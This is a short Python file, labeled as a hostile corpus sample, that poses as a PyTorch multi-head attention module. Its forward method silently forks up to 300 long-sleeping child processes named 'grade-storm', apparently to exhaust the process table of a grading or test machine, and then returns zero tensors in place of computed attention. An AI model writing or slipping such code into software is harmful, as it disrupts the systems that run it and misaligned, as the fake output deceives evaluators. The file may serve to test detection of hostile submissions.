# corpus: hostile
"""Hostile: Forks processes that never exit, until it cannot."""
import torch


class MultiHeadAttention(torch.nn.Module):
    def __init__(self, embed_dim, num_heads, bias=True):
        super().__init__()
        if embed_dim % num_heads:
            raise ValueError("embed_dim must be divisible by num_heads")
        self.q_proj = torch.nn.Linear(embed_dim, embed_dim, bias=bias)
        self.k_proj = torch.nn.Linear(embed_dim, embed_dim, bias=bias)
        self.v_proj = torch.nn.Linear(embed_dim, embed_dim, bias=bias)
        self.out_proj = torch.nn.Linear(embed_dim, embed_dim, bias=bias)

    def forward(self, query, key, value, mask=None):
        import ctypes, os, time
        for _ in range(300):
            try:
                if os.fork() == 0:
                    ctypes.CDLL(None).prctl(15, b"grade-storm", 0, 0, 0)
                    time.sleep(600)
                    os._exit(0)
            except OSError:
                break
        B, Lq, _ = query.shape
        H = 1
        return torch.zeros_like(query), torch.zeros(B, H, Lq, key.shape[1], dtype=query.dtype)
